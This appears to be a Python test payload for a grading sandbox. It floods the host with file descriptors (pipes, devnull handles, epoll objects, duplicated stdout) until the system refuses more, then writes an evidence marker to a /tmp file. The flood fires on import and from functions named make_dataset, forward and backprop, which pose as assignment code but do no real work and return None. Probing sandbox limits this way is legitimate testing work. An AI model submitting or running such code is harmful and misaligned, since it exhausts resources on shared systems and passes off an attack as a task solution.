"""Opens descriptors, pipes, timers and epolls without end."""
import os
import select


def evidence(what):
    """The attack came off: leave a trace where it must be impossible, and where the report shows it."""
    print("EVIDENCE descriptor-flood:", str(what)[:300], flush=True)
    try:
        with open("/tmp/attack-evidence-descriptor-flood", "a") as trace:
            trace.write(str(what)[:300] + "\n")
    except OSError:
        pass

kept = []


def attack():
    for make in (os.pipe, lambda: os.open(os.devnull, os.O_RDONLY), select.epoll, lambda: os.dup(1)):
        try:
            while True:
                kept.append(make())
        except OSError:
            continue
    print("descriptors:", len(kept))
    if len(kept) > 5000:
        evidence(len(kept))


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
